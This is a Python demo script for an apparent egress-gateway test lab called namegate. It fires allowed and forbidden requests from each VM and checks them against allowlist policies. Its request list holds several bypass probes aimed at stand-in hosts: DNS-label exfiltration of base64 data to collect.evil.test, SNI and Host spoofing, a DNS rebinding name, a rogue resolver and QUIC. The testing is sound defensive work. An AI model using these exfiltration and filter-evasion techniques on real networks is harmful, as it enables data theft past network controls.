"""`lab.py demo`: a short scripted set of requests from every VM, allowed and forbidden,
printed as a per-VM table of what happened (ok, or failed and how), next to what the VM's
policy says namegate should do, and then namegate's counters.

In bridge mode everything gets through (a bridge is not a gateway): the "policy" column
then shows what namegate will change. In namegate mode the two columns should agree.
"""

import ipaddress
import re
import sys
import threading
import time
from dataclasses import dataclass

import lab_services as svc


@dataclass
class Req:
    label: str
    kind: str                   # dns | https | http | udp
    target: str                 # name, URL, or address
    judge: str = None           # "host:port" the policy decides on; None: always blocked
    rtype: str = "A"
    server: str = svc.RESOLVER
    ip: int = None
    connect_to: str = None
    port: int = None


REQUESTS = [
    Req("dns   pypi.org A", "dns", "pypi.org", "pypi.org:53"),
    Req("https pypi.org", "https", "https://pypi.org/", "pypi.org:443", ip=4),
    Req("https pypi.org over IPv6", "https", "https://pypi.org/", "pypi.org:443", ip=6),
    Req("https files.pythonhosted.org", "https", "https://files.pythonhosted.org/",
        "files.pythonhosted.org:443"),
    Req("https www.pypi-mirror.test (CNAME)", "https", "https://www.pypi-mirror.test/",
        "www.pypi-mirror.test:443", ip=4),
    Req("https raw.githubusercontent.com", "https", "https://raw.githubusercontent.com/",
        "raw.githubusercontent.com:443"),
    Req("https github.com", "https", "https://github.com/", "github.com:443"),
    Req("https upload.pypi.org", "https", "https://upload.pypi.org/", "upload.pypi.org:443"),
    Req("https evil.test", "https", "https://evil.test/", "evil.test:443"),
    Req("dns   secret label exfiltration", "dns", "c2VjcmV0.collect.evil.test",
        "c2VjcmV0.collect.evil.test:53"),
    Req("dns   rebind-localhost.test", "dns", "rebind-localhost.test",
        "rebind-localhost.test:53"),
    Req("https 198.51.100.7 by address", "https", "https://198.51.100.7/", "198.51.100.7:443"),
    Req("https evil.test without DNS", "https", "https://evil.test/", None,
        connect_to="evil.test:443:203.0.113.20:443"),
    Req("https SNI github.com to pypi's IP", "https", "https://github.com/", None,
        connect_to="github.com:443:203.0.113.10:443"),
    Req("http  pypi.org (plaintext)", "http", "http://pypi.org/", "pypi.org:80"),
    Req("http  Host multi.test to pypi's IP", "http", "http://multi.test/", None,
        connect_to="multi.test:80:203.0.113.10:80"),
    Req("udp   443 to pypi.org (QUIC)", "udp", "203.0.113.10", None, port=443),
    Req("dns   pypi.org via another resolver", "dns", "pypi.org", None,
        server=svc.ROGUE_RESOLVER),
]


def policy_says(policies, policy, judge):
    """A small model of SPEC section 3's matcher, enough for the demo's own requests."""
    if judge is None:
        return "block"
    host, port = judge.rsplit(":", 1)
    rules = policies.get(policy, {})
    if any(_match(p, host, port) for p in rules.get("deny", [])):
        return "block"
    if port == "53" and not _is_ip(host):
        # a DNS question is judged by its name alone (no port in the query)
        return "allow" if any(_match(p.rsplit(":", 1)[0] if _has_port(p) else p, host, port)
                              for p in rules.get("allow", [])) else "block"
    return "allow" if any(_match(p, host, port) for p in rules.get("allow", [])) else "block"


def _has_port(p):
    return ":" in p and p.rsplit(":", 1)[1].isdigit() and not p.startswith("[")


def _is_ip(s):
    try:
        ipaddress.ip_address(s)
        return True
    except ValueError:
        return False


def _match(pattern, host, port):
    if _has_port(pattern):
        pattern, pport = pattern.rsplit(":", 1)
        if pport != port:
            return False
    if _is_ip(host):
        try:
            return ipaddress.ip_address(host) in ipaddress.ip_network(pattern.strip("[]"))
        except ValueError:
            return False
    if pattern.startswith("*."):
        return host.endswith(pattern[1:])
    return host == pattern


def _reached(lab, vm, kind):
    """How often this VM's traffic of this kind has reached the fake internet: the
    resolver's query log for DNS, the servers' event log otherwise. This, not what the
    client saw, is what the gateway must prevent."""
    if kind == "dns":
        return sum(1 for _, _, client in lab.resolver_queries() if client == vm.ipv4)
    # for HTTPS: the ClientHello reached the server (SNI is judged before that); for
    # plaintext HTTP: the request did (its Host is judged before that)
    want = {"https": "hello", "http": "request", "udp": "udp"}[kind]
    return sum(1 for e in lab.server_events() if e["event"] == want
               and e["client"] in (vm.ipv4, vm.ipv6)
               and (kind != "http" or not e.get("tls")))


def run_one(lab, vm, r):
    """Returns (what the client saw, whether it reached the internet, milliseconds)."""
    t0 = time.monotonic()
    if r.kind == "dns":
        before = _reached(lab, vm, "dns")
        # a cap for an expected answer; short for the resolver VMs must not use, which a
        # gateway leaves unanswered
        d = lab.dig(vm, r.target, r.rtype, server=r.server, edns=True,
                    timeout=10 if r.server == svc.RESOLVER else 2)
        reached = _reached(lab, vm, "dns") > before and d.rcode is not None
        if d.rcode is None:
            res = "timeout (no answer)"
        elif d.rcode == "NOERROR" and d.addresses:
            res = "ok " + ",".join(d.addresses[:2])
        else:
            res = d.rcode + (f" EDE {d.ede}" if d.ede is not None else "") + (
                "" if reached else " (not forwarded)")
        return res, reached, (time.monotonic() - t0) * 1000
    if r.kind == "udp":
        before = _reached(lab, vm, r.kind)
        res = _udp(lab, vm, r.target, r.port)
        return res, _reached(lab, vm, r.kind) > before, (time.monotonic() - t0) * 1000
    host = r.target.split("/")[2]
    dns_rcode = None
    if not r.connect_to and not _is_ip(host):
        dns_rcode = lab.dig(vm, host, "AAAA" if r.ip == 6 else "A").rcode
    before = _reached(lab, vm, r.kind)
    c = lab.curl(vm, r.target, ip=r.ip, connect_to=r.connect_to)   # blocks are resets
    reached = _reached(lab, vm, r.kind) > before
    if c.ok:
        try:
            res = f"ok {c.http_code} from {c.json()['server']}"
        except ValueError:
            res = f"ok {c.http_code}"
    elif c.outcome == "dns failed" and dns_rcode not in (None, "NOERROR"):
        res = f"DNS {dns_rcode}"
    else:
        res = c.outcome
    return res, reached, (time.monotonic() - t0) * 1000


def _udp(lab, vm, addr, port):
    code = f"""
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(10)
s.connect(({addr!r}, {port}))
try:
    s.send(b"\\xc0quic-ish"); s.recv(100); print("ok echo")
except ConnectionRefusedError: print("port unreachable (ICMP)")
except socket.timeout: print("timeout")
"""
    return lab.vm_python(vm, code, timeout=30).stdout.strip() or "error"


def run_demo(lab, out=sys.stdout):
    from lab_namegate import DEFAULT_POLICIES
    policies = lab.policies if lab.policies is not None else DEFAULT_POLICIES
    results = {}

    def per_vm(vm):
        results[vm.name] = [(r, *run_one(lab, vm, r)) for r in REQUESTS]
    threads = [threading.Thread(target=per_vm, args=(vm,)) for vm in lab.vms]
    for t in threads:
        t.start()
    for t in threads:
        t.join()

    mismatches = 0
    p = lambda s="": print(s, file=out)   # noqa: E731
    p(f"namegate lab {lab.prefix}, {lab.mode} mode")
    p("policy: what the VM's allowlist says; result: what the client saw; internet: "
      "whether it reached the fake internet (resolver or server logs)")
    if lab.mode == "bridge":
        p("(a plain bridge stands where namegate goes, so everything gets through)")
    for vm in lab.vms:
        p()
        p(f"{vm.name}  {vm.ipv4} {vm.ipv6 or ''} {vm.mac}  policy {vm.policy}")
        p(f"  {'request':38} {'policy':6} {'result':34} {'internet':8} {'ms':>5}")
        for r, res, reached, ms in results[vm.name]:
            want = policy_says(policies, vm.policy, r.judge)
            flag = ""
            if lab.mode == "namegate" and (want == "allow") != reached:
                flag, mismatches = "  <-- not what the policy says", mismatches + 1
            p(f"  {r.label:38} {want:6} {res:34} {'reached' if reached else '-':8} "
              f"{ms:5.0f}{flag}")
    if lab.mode == "namegate":
        p()
        p(f"{mismatches} result(s) differ from the policy" if mismatches
          else "every result matches the policy")
        _print_counters(lab, p)
    return 0


def _print_counters(lab, p):
    text = lab.metrics()
    if text:
        p("\nnamegate counters (GET /metrics):")
        for line in text.splitlines():
            if line.startswith(("namegate_vm_", "namegate_port_")) and not line.endswith(" 0"):
                p("  " + line)
        return
    # Until metrics land the daemon prints its counters on SIGUSR1 (issue 4).
    import signal
    o0, e0 = (len(x) for x in lab.namegate_output())
    lab.daemon.signal(signal.SIGUSR1)
    # a dump ends with namegate_policy_generation; a daemon that prints none (or another
    # last line) gets a few seconds, then whatever it printed is shown
    deadline = time.monotonic() + 5
    while True:
        out, err = lab.namegate_output()
        new = out[o0:] + err[e0:]
        # the sample, not the family's # HELP and # TYPE lines, which name it first
        if re.search(r"^namegate_policy_generation \d+$", new, re.M) or \
                time.monotonic() > deadline:
            break
        time.sleep(0.05)
    p("\nnamegate counters (SIGUSR1):")
    lines = [x for x in new.strip().splitlines()
             if not x.startswith("#") and not x.rstrip().endswith(" 0")]
    for line in lines[-60:] or ["(no metrics endpoint, and nothing printed on SIGUSR1)"]:
        p("  " + line)
